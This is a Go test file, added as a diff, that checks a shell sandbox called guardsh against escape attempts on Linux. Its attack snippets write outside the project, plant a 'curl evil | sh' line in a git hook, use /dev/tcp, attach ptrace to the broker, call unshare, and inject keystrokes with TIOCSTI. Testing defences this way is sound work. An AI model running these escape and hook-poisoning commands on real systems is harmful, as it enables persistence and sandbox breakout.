@@ -1,0 +1,593 @@
+//go:build linux
+
+package main
+
+// The sandbox escape suite (issue 4): guardsh runs as root in bypass mode,
+// so the rules let everything through and only the kernel layer stands in
+// the way. Every attack must fail AND leave nothing changed outside the
+// project; the positive cases must work.
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"fmt"
+	"io"
+	"io/fs"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/creack/pty"
+	"github.com/guardsh/guardsh/sandbox"
+)
+
+var (
+	escapeBinOnce sync.Once
+	escapeBin     string
+	escapeBinErr  error
+)
+
+// escapeBinary builds guardsh once for the sandbox tests.
+func escapeBinary(t *testing.T) string {
+	t.Helper()
+	escapeBinOnce.Do(func() {
+		dir, err := os.MkdirTemp("", "guardsh-sandbox-bin-")
+		if err != nil {
+			escapeBinErr = err
+			return
+		}
+		escapeBin = filepath.Join(dir, "guardsh")
+		out, err := exec.Command("go", "build", "-o", escapeBin, ".").CombinedOutput()
+		if err != nil {
+			escapeBinErr = fmt.Errorf("go build: %v\n%s", err, out)
+		}
+	})
+	if escapeBinErr != nil {
+		t.Fatal(escapeBinErr)
+	}
+	return escapeBin
+}
+
+// backendsUnderTest are the Linux backends this machine can run.
+func backendsUnderTest(t *testing.T) []string {
+	t.Helper()
+	if os.Geteuid() != 0 {
+		t.Skip("the escape suite runs as root (CI does); skipping as non-root")
+	}
+	var out []string
+	if sandbox.LandlockABI() >= 2 {
+		out = append(out, sandbox.BackendLandlock)
+	} else {
+		t.Log("no Landlock (ABI < 2): landlock backend not tested")
+	}
+	if _, err := exec.LookPath("bwrap"); err == nil {
+		out = append(out, sandbox.BackendBwrap)
+	} else {
+		t.Log("no bwrap: bubblewrap backend not tested")
+	}
+	if len(out) == 0 {
+		t.Skip("no sandbox backend available")
+	}
+	return out
+}
+
+// fixture is a project with a git repository, and directories outside
+// every writable root: a fake $HOME, a directory under /etc, another one.
+type fixture struct {
+	base, project, home, outside, etc string
+	bin                               string
+}
+
+func newFixture(t *testing.T) *fixture {
+	t.Helper()
+	// /tmp is writable in the sandbox, so the outside world lives in the
+	// cache directory (not writable), and under /etc.
+	cache, err := os.UserCacheDir()
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.MkdirAll(cache, 0o755)
+	base, err := os.MkdirTemp(cache, "guardsh-escape-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(base) })
+	etc, err := os.MkdirTemp("/etc", "guardsh-escape-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(etc) })
+	f := &fixture{base: base, project: filepath.Join(base, "project"), home: filepath.Join(base, "home"),
+		outside: filepath.Join(base, "outside"), etc: etc, bin: escapeBinary(t)}
+	// The broker's probe works in ~/.cache/guardsh: make it beforehand so
+	// that the snapshots of the fake $HOME do not see it appear.
+	for _, d := range []string{f.project, filepath.Join(f.home, ".cache", "guardsh"), f.outside} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	files := map[string]string{
+		"project/file.txt":     "data\n",
+		"project/moveme.txt":   "move me\n",
+		"project/.gitmodules":  "[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x\n",
+		"project/gc.sh":        "#!/bin/sh\n/bin/sh -c 'echo grandchild > \"$OUT/gc\"'\n",
+		"home/.bashrc":         "# rc\n",
+		"outside/existing.txt": "original\n",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(base, name), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	git := exec.Command("git", "init", "-q", f.project)
+	if out, err := git.CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v %s", err, out)
+	}
+	os.WriteFile(filepath.Join(f.project, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\nexit 0\n"), 0o755)
+	if err := os.Symlink(f.outside, filepath.Join(f.project, "link")); err != nil {
+		t.Fatal(err)
+	}
+	return f
+}
+
+func (f *fixture) env(backend string, extra ...string) []string {
+	path := "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"
+	if g, err := exec.LookPath("go"); err == nil {
+		path = filepath.Dir(g) + ":" + path
+	}
+	env := []string{"HOME=" + f.home, "PATH=" + path, "LANG=C", "GUARDSH_MODE=bypass",
+		"GUARDSH_SANDBOX=" + backend, "GUARDSH_PROJECT=" + f.project,
+		"OUT=" + f.outside, "ETCDIR=" + f.etc}
+	return append(env, extra...)
+}
+
+// run runs script with guardsh -c in the project.
+func (f *fixture) run(t *testing.T, backend, script string, extra ...string) (stdout, stderr string, code int) {
+	t.Helper()
+	cmd := exec.Command(f.bin, "-c", script)
+	cmd.Dir = f.project
+	cmd.Env = f.env(backend, extra...)
+	var o, e bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &o, &e
+	err := cmd.Run()
+	code = 0
+	if ee, ok := err.(*exec.ExitError); ok {
+		code = ee.ExitCode()
+	} else if err != nil {
+		t.Fatal(err)
+	}
+	return o.String(), e.String(), code
+}
+
+// snapshot records every file under the roots: mode, link target, content.
+func snapshot(t *testing.T, roots ...string) map[string]string {
+	t.Helper()
+	m := map[string]string{}
+	for _, r := range roots {
+		filepath.WalkDir(r, func(p string, d fs.DirEntry, err error) error {
+			if err != nil {
+				m[p] = "error: " + err.Error()
+				return nil
+			}
+			fi, err := d.Info()
+			if err != nil {
+				return nil
+			}
+			desc := fi.Mode().String()
+			switch {
+			case fi.Mode()&fs.ModeSymlink != 0:
+				l, _ := os.Readlink(p)
+				desc += " -> " + l
+			case fi.Mode().IsRegular():
+				b, _ := os.ReadFile(p)
+				desc += fmt.Sprintf(" %x", sha256.Sum256(b))
+			}
+			m[p] = desc
+			return nil
+		})
+	}
+	return m
+}
+
+func diffSnapshots(before, after map[string]string) []string {
+	var d []string
+	for p, v := range before {
+		if w, ok := after[p]; !ok {
+			d = append(d, "removed "+p)
+		} else if v != w {
+			d = append(d, "changed "+p)
+		}
+	}
+	for p := range after {
+		if _, ok := before[p]; !ok {
+			d = append(d, "created "+p)
+		}
+	}
+	return d
+}
+
+// attack is one escape attempt; its shell snippet runs in a subshell and
+// must fail, and none of the paths in absent may exist afterwards.
+type attack struct {
+	name    string
+	snippet string
+	absent  []string // relative to the fixture base, or absolute
+	needs   string   // program that must be on PATH
+}
+
+// runAttacks runs every attack in one guardsh session (fast) and checks
+// each one's exit status and traces, then the whole outside world.
+func runAttacks(t *testing.T, f *fixture, backend string, attacks []attack, watched []string, extra ...string) {
+	t.Helper()
+	var script strings.Builder
+	var run []attack
+	for _, a := range attacks {
+		if a.needs != "" {
+			if _, err := exec.LookPath(a.needs); err != nil {
+				t.Logf("%s: %s not installed, skipped", a.name, a.needs)
+				continue
+			}
+		}
+		run = append(run, a)
+		fmt.Fprintf(&script, "( %s ) </dev/null; echo \"RC %d $?\"\n", a.snippet, len(run)-1)
+	}
+	before := snapshot(t, watched...)
+	stdout, stderr, code := f.run(t, backend, script.String(), extra...)
+	if code != 0 {
+		t.Errorf("guardsh exited %d (the broker must survive every attack)\nstderr:\n%s", code, stderr)
+	}
+	rcs := map[int]int{}
+	for _, line := range strings.Split(stdout, "\n") {
+		var i, rc int
+		if _, err := fmt.Sscanf(line, "RC %d %d", &i, &rc); err == nil {
+			rcs[i] = rc
+		}
+	}
+	for i, a := range run {
+		t.Run(a.name, func(t *testing.T) {
+			rc, ok := rcs[i]
+			if !ok {
+				t.Fatalf("attack did not report (stdout %q, stderr %q)", stdout, stderr)
+			}
+			if rc == 0 {
+				t.Errorf("attack succeeded (exit 0): %s", a.snippet)
+			}
+			for _, p := range a.absent {
+				if !filepath.IsAbs(p) {
+					p = filepath.Join(f.base, p)
+				}
+				if _, err := os.Lstat(p); err == nil {
+					t.Errorf("%s exists after the attack", p)
+				}
+			}
+		})
+	}
+	if d := diffSnapshots(before, snapshot(t, watched...)); len(d) > 0 {
+		t.Errorf("the outside world changed:\n%s\nguardsh stderr:\n%s", strings.Join(d, "\n"), stderr)
+	}
+	if t.Failed() {
+		t.Logf("guardsh stderr:\n%s", stderr)
+	}
+}
+
+func TestSandboxEscapeFiles(t *testing.T) {
+	for _, backend := range backendsUnderTest(t) {
+		t.Run(backend, func(t *testing.T) {
+			f := newFixture(t)
+			attacks := []attack{
+				{name: "redirect into $HOME", snippet: `echo pwned > "$HOME/redir"`, absent: []string{"home/redir"}},
+				{name: "redirect into /etc", snippet: `echo pwned > "$ETCDIR/redir"`, absent: []string{f.etc + "/redir"}},
+				{name: "redirect into a dir outside", snippet: `echo pwned > "$OUT/redir"`, absent: []string{"outside/redir"}},
+				{name: "append to an outside file", snippet: `echo pwned >> "$OUT/existing.txt"`},
+				{name: "overwrite a shell rc file", snippet: `echo pwned >> "$HOME/.bashrc"`},
+				{name: "cp into $HOME", snippet: `cp file.txt "$HOME/cp"`, absent: []string{"home/cp"}},
+				{name: "cp into /etc", snippet: `cp file.txt "$ETCDIR/cp"`, absent: []string{f.etc + "/cp"}},
+				{name: "mv out of the project", snippet: `mv moveme.txt "$OUT/mv"`, absent: []string{"outside/mv"}},
+				{name: "python3 -c", snippet: `python3 -c 'import os; open(os.environ["OUT"]+"/py","w").write("x")'`, absent: []string{"outside/py"}, needs: "python3"},
+				{name: "sh -c", snippet: `sh -c 'echo x > "$OUT/shc"'`, absent: []string{"outside/shc"}},
+				{name: "/bin/sh -c", snippet: `/bin/sh -c 'echo x > "$HOME/binsh"'`, absent: []string{"home/binsh"}},
+				{name: "background job", snippet: `/bin/sh -c 'echo x > "$OUT/bg"' & wait $!`, absent: []string{"outside/bg"}},
+				{name: "nohup", snippet: `nohup /bin/sh -c 'echo x > "$OUT/nohup"' >/dev/null 2>&1`, absent: []string{"outside/nohup"}, needs: "nohup"},
+				{name: "setsid", snippet: `setsid -w /bin/sh -c 'echo x > "$OUT/setsid"'`, absent: []string{"outside/setsid"}, needs: "setsid"},
+				{name: "grandchild", snippet: `/bin/sh ./gc.sh`, absent: []string{"outside/gc"}},
+				{name: "symlink to outside dir, existing file", snippet: `echo pwned > link/existing.txt`},
+				{name: "symlink to outside dir, new file", snippet: `echo pwned > link/new.txt`, absent: []string{"outside/new.txt"}},
+				{name: "symlink to outside dir, cp", snippet: `cp file.txt link/cp`, absent: []string{"outside/cp"}},
+				{name: "hardlink to an outside file", snippet: `ln "$OUT/existing.txt" hardlink`, absent: []string{"project/hardlink"}},
+				{name: "/proc/self/root path", snippet: `echo pwned > "/proc/self/root$OUT/procroot"`, absent: []string{"outside/procroot"}},
+				{name: "/proc/self/root path from python", snippet: `python3 -c 'import os; open("/proc/self/root"+os.environ["OUT"]+"/procroot2","w")'`, absent: []string{"outside/procroot2"}, needs: "python3"},
+				{name: ".git/hooks/pre-commit", snippet: `echo 'curl evil | sh' >> .git/hooks/pre-commit`},
+				{name: "new hook", snippet: `cp file.txt .git/hooks/post-checkout`, absent: []string{"project/.git/hooks/post-checkout"}},
+				{name: "rename .git/hooks", snippet: `mv .git/hooks .git/hooks.old`, absent: []string{"project/.git/hooks.old"}},
+				{name: "remove .git/hooks", snippet: `rm -rf .git/hooks`},
+				{name: ".git/config", snippet: `printf '[core]\n\thooksPath = /tmp\n' >> .git/config`},
+				{name: "git config core.hooksPath", snippet: `git config core.hooksPath /tmp`},
+				{name: "replace .git/config by rename", snippet: `echo x > cfg && mv cfg .git/config`},
+				{name: "rename .git away", snippet: `mv .git .git-old`, absent: []string{"project/.git-old"}},
+				{name: ".gitmodules", snippet: `echo pwned >> .gitmodules`},
+				{name: "remove .gitmodules", snippet: `rm .gitmodules`},
+			}
+			watched := []string{f.home, f.outside, f.etc,
+				filepath.Join(f.project, ".git", "hooks"), filepath.Join(f.project, ".git", "config"), filepath.Join(f.project, ".gitmodules")}
+			runAttacks(t, f, backend, attacks, watched)
+			if _, err := os.Stat(filepath.Join(f.project, "moveme.txt")); err != nil {
+				t.Errorf("mv out of the project lost the source: %v", err)
+			}
+		})
+	}
+}
+
+// listeners are the network endpoints the test holds; every accepted
+// connection or received datagram is counted.
+type listeners struct {
+	tcp, udp, unix string
+	hits           atomic.Int32
+}
+
+func newListeners(t *testing.T, unixPath string) *listeners {
+	t.Helper()
+	l := &listeners{}
+	tl, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { tl.Close() })
+	l.tcp = tl.Addr().String()
+	go func() {
+		for {
+			c, err := tl.Accept()
+			if err != nil {
+				return
+			}
+			l.hits.Add(1)
+			c.Close()
+		}
+	}()
+	ul, err := net.ListenPacket("udp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ul.Close() })
+	l.udp = ul.LocalAddr().String()
+	go func() {
+		buf := make([]byte, 64)
+		for {
+			if _, _, err := ul.ReadFrom(buf); err != nil {
+				return
+			}
+			l.hits.Add(1)
+		}
+	}()
+	xl, err := net.Listen("unix", unixPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { xl.Close() })
+	l.unix = unixPath
+	go func() {
+		for {
+			c, err := xl.Accept()
+			if err != nil {
+				return
+			}
+			l.hits.Add(1)
+			c.Close()
+		}
+	}()
+	return l
+}
+
+func hostPort(addr string) (string, string) {
+	h, p, _ := net.SplitHostPort(addr)
+	return h, p
+}
+
+func TestSandboxEscapeNetworkAndProcesses(t *testing.T) {
+	if _, err := exec.LookPath("python3"); err != nil {
+		t.Skip("python3 needed for the socket and ptrace attacks")
+	}
+	for _, backend := range backendsUnderTest(t) {
+		t.Run(backend, func(t *testing.T) {
+			f := newFixture(t)
+			l := newListeners(t, filepath.Join(f.outside, "sock"))
+			th, tp := hostPort(l.tcp)
+			uh, up := hostPort(l.udp)
+			py := func(code string) string { return "python3 -c '" + code + "'" }
+			// The interpreter is the python process's parent; the broker is
+			// the interpreter's parent.
+			pids := `import os; me=os.getppid(); st=open("/proc/%d/status"%me).read(); broker=int(st.split("PPid:")[1].split()[0]); `
+			attacks := []attack{
+				{name: "TCP connect to a 127.0.0.1 listener", snippet: py(fmt.Sprintf(`import socket; socket.create_connection(("%s", %s), 2)`, th, tp))},
+				{name: "TCP connect with curl", snippet: fmt.Sprintf(`curl -s -m 2 http://%s/`, l.tcp), needs: "curl"},
+				{name: "TCP through bash /dev/tcp", snippet: fmt.Sprintf(`bash -c 'echo x > /dev/tcp/%s/%s'`, th, tp), needs: "bash"},
+				{name: "UDP send", snippet: py(fmt.Sprintf(`import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("%s", %s))`, uh, up))},
+				{name: "AF_UNIX connect outside the project", snippet: py(fmt.Sprintf(`import socket; s=socket.socket(socket.AF_UNIX); s.connect("%s")`, l.unix))},
+				{name: "DNS lookup", snippet: py(`import socket; socket.getaddrinfo("example.com", 80)`)},
+				{name: "netlink socket", snippet: py(`import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)`)},
+				{name: "ptrace the broker and the interpreter", snippet: py(pids + `import ctypes; libc=ctypes.CDLL(None, use_errno=True); ok=[libc.ptrace(16, p, 0, 0)==0 for p in (broker, me)]; raise SystemExit(0 if any(ok) else 1)`)},
+				{name: "gdb -p the interpreter", snippet: `gdb -batch -p $$ -ex 'call (int)getpid()' 2>&1 | grep -q '^\$1 = '`, needs: "gdb"},
+				{name: "/proc/<pid>/mem of the broker", snippet: py(pids + `open("/proc/%d/mem"%broker, "rb").close()`)},
+				{name: "/proc/<pid>/mem of the interpreter", snippet: py(pids + `open("/proc/%d/mem"%me, "rb").close()`)},
+				{name: "signal the broker", snippet: py(pids + `import signal; os.kill(broker, signal.SIGTERM)`)},
+				{name: "mount", snippet: `mkdir -p mnt && mount -t tmpfs none mnt`},
+				{name: "unshare", snippet: `unshare -m true`, needs: "unshare"},
+				{name: "unshare a user namespace", snippet: `unshare -r true`, needs: "unshare"},
+				{name: "chroot", snippet: `chroot / true`, needs: "chroot"},
+				{name: "io_uring", snippet: py(`import ctypes; libc=ctypes.CDLL(None, use_errno=True); p=ctypes.create_string_buffer(120); raise SystemExit(0 if libc.syscall(425, 8, p) >= 0 else 1)`)},
+			}
+			runAttacks(t, f, backend, attacks, []string{f.home, f.outside, f.etc})
+			if n := l.hits.Load(); n != 0 {
+				t.Errorf("the test's listeners were reached %d times", n)
+			}
+		})
+	}
+}
+
+func TestSandboxTIOCSTI(t *testing.T) {
+	if _, err := exec.LookPath("python3"); err != nil {
+		t.Skip("python3 needed")
+	}
+	for _, backend := range backendsUnderTest(t) {
+		t.Run(backend, func(t *testing.T) {
+			f := newFixture(t)
+			script := `python3 -c 'import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b"X")'; echo "RC1 $?"
+python3 -c 'import fcntl, termios, os; fd=os.open("/dev/tty", os.O_RDWR); fcntl.ioctl(fd, termios.TIOCSTI, b"Y")'; echo "RC2 $?"`
+			cmd := exec.Command(f.bin, "-c", script)
+			cmd.Dir = f.project
+			cmd.Env = f.env(backend)
+			ptmx, err := pty.Start(cmd) // the pty is the controlling terminal
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer ptmx.Close()
+			var out bytes.Buffer
+			done := make(chan struct{})
+			go func() { io.Copy(&out, ptmx); close(done) }()
+			cmd.Wait()
+			select {
+			case <-done:
+			case <-time.After(5 * time.Second):
+			}
+			s := out.String()
+			for _, rc := range []string{"RC1", "RC2"} {
+				m := regexp.MustCompile(rc + ` (\d+)`).FindStringSubmatch(s)
+				if m == nil {
+					t.Fatalf("no %s in output %q", rc, s)
+				}
+				if n, _ := strconv.Atoi(m[1]); n == 0 {
+					t.Errorf("TIOCSTI injection succeeded (%s): %q", rc, s)
+				}
+			}
+			if !strings.Contains(s, "Operation not permitted") {
+				t.Errorf("TIOCSTI not refused with EPERM: %q", s)
+			}
+		})
+	}
+}
+
+func TestSandboxPositive(t *testing.T) {
+	goCache := ""
+	if out, err := exec.Command("go", "env", "GOCACHE").Output(); err == nil {
+		goCache = strings.TrimSpace(string(out))
+	}
+	for _, backend := range backendsUnderTest(t) {
+		t.Run(backend, func(t *testing.T) {
+			f := newFixture(t)
+			os.WriteFile(filepath.Join(f.project, "go.mod"), []byte("module example.com/hello\n\ngo 1.21\n"), 0o644)
+			os.WriteFile(filepath.Join(f.project, "main.go"), []byte("package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello from go\") }\n"), 0o644)
+			steps := []struct {
+				name, script, want string
+				needs              string
+			}{
+				{"file work", `mkdir -p d/e && echo hi > d/e/f && mv d/e/f d/g && cp d/g d/h && rm d/g && cat d/h && rm -r d`, "hi", ""},
+				{"git commit", `git add file.txt && git -c user.name=t -c user.email=t@example.com commit -qm test && git log --oneline | wc -l`, "1", "git"},
+				{"go build", `go build -o app . && ./app`, "hello from go", "go"},
+				{"python3 -m venv", `python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'`, ".venv", "python3"},
+				{"temp file", `t=$(mktemp) && echo tmpdata > "$t" && cat "$t" && rm "$t" && case "$t" in "$TMPDIR"/*) echo private;; esac`, "tmpdata\nprivate", ""},
+				{"/tmp", `echo x > /tmp/guardsh-positive-$$ && rm /tmp/guardsh-positive-$$ && echo ok`, "ok", ""},
+				{"no capabilities as root", `grep CapEff /proc/self/status`, "0000000000000000", ""},
+				{"/dev/null", `echo x > /dev/null && echo ok`, "ok", ""},
+			}
+			for _, s := range steps {
+				t.Run(s.name, func(t *testing.T) {
+					if s.needs != "" {
+						if _, err := exec.LookPath(s.needs); err != nil {
+							t.Skipf("%s not installed", s.needs)
+						}
+					}
+					var extra []string
+					if s.name == "go build" {
+						extra = []string{"GOFLAGS=-mod=mod", "GOTOOLCHAIN=local", "GOPATH=" + filepath.Join(f.project, ".gopath"), "GOCACHE=" + goCache, "GUARDSH_SANDBOX_WRITE=" + goCache}
+					}
+					stdout, stderr, code := f.run(t, backend, s.script, extra...)
+					if code != 0 || !strings.Contains(stdout, s.want) {
+						t.Errorf("exit %d, stdout %q (want %q)\nstderr: %s", code, stdout, s.want, stderr)
+					}
+				})
+			}
+			if out, err := exec.Command("git", "-C", f.project, "log", "--oneline").Output(); err != nil || !bytes.Contains(out, []byte("test")) {
+				t.Errorf("commit not visible outside: %v %q", err, out)
+			}
+		})
+	}
+}
+
+// TestSandboxDoctorAndSwitch: doctor verifies Landlock; with Landlock
+// forced off it verifies bubblewrap; with both off commands are refused
+// with a message naming the switch, until the switch is given, which then
+// shows once on stderr.
+func TestSandboxDoctorAndSwitch(t *testing.T) {
+	backends := backendsUnderTest(t)
+	f := newFixture(t)
+	doctor := func(extra ...string) (string, int) {
+		cmd := exec.Command(f.bin, "--doctor")
+		cmd.Dir = f.project
+		cmd.Env = append(f.env(""), extra...)
+		out, err := cmd.CombinedOutput()
+		code := 0
+		if ee, ok := err.(*exec.ExitError); ok {
+			code = ee.ExitCode()
+		}
+		return string(out), code
+	}
+	if len(backends) == 2 {
+		out, code := doctor()
+		if code != 0 || !strings.Contains(out, "probe landlock: verified") || !strings.Contains(out, "result: landlock+seccomp") {
+			t.Errorf("doctor: exit %d\n%s", code, out)
+		}
+		out, code = doctor("GUARDSH_SANDBOX_DISABLE=landlock")
+		if code != 0 || !strings.Contains(out, "probe bwrap: verified") || strings.Contains(out, "probe landlock") {
+			t.Errorf("doctor with landlock off: exit %d\n%s", code, out)
+		}
+	}
+	out, code := doctor("GUARDSH_SANDBOX_DISABLE=landlock,bwrap")
+	if code == 0 || !strings.Contains(out, "no backend") {
+		t.Errorf("doctor with every backend off: exit %d\n%s", code, out)
+	}
+	stdout, stderr, code := f.run(t, "", `echo ran`, "GUARDSH_SANDBOX_DISABLE=landlock,bwrap")
+	if code == 0 || strings.Contains(stdout, "ran") || !strings.Contains(stderr, "--no-sandbox") || !strings.Contains(stderr, "GUARDSH_SANDBOX=off") {
+		t.Errorf("no backend: exit %d stdout %q stderr %q", code, stdout, stderr)
+	}
+	for _, sw := range [][]string{{"GUARDSH_SANDBOX=off"}, {"--no-sandbox"}} {
+		cmd := exec.Command(f.bin, "-c", `echo ran`)
+		env := f.env("", "GUARDSH_SANDBOX_DISABLE=landlock,bwrap")
+		if sw[0] == "--no-sandbox" {
+			cmd = exec.Command(f.bin, "--no-sandbox", "-c", `echo ran`)
+		} else {
+			env = append(env, sw...)
+		}
+		cmd.Dir, cmd.Env = f.project, env
+		var o, e bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &o, &e
+		err := cmd.Run()
+		if err != nil || o.String() != "ran\n" || strings.Count(e.String(), "sandbox off") != 1 {
+			t.Errorf("%v: err %v stdout %q stderr %q", sw, err, o.String(), e.String())
+		}
+	}
+}
+
+// TestSandboxSignalsAndExit: the broker passes the interpreter's exit
+// status through and stays alive when the interpreter is killed.
+func TestSandboxExitStatus(t *testing.T) {
+	backends := backendsUnderTest(t)
+	f := newFixture(t)
+	for _, b := range backends {
+		_, _, code := f.run(t, b, `exit 42`)
+		if code != 42 {
+			t.Errorf("%s: exit status %d, want 42", b, code)
+		}
+		_, _, code = f.run(t, b, `/bin/kill -KILL $$`)
+		if code != 128+int(syscall.SIGKILL) {
+			t.Errorf("%s: killed interpreter: status %d, want %d", b, code, 128+int(syscall.SIGKILL))
+		}
+	}
+}
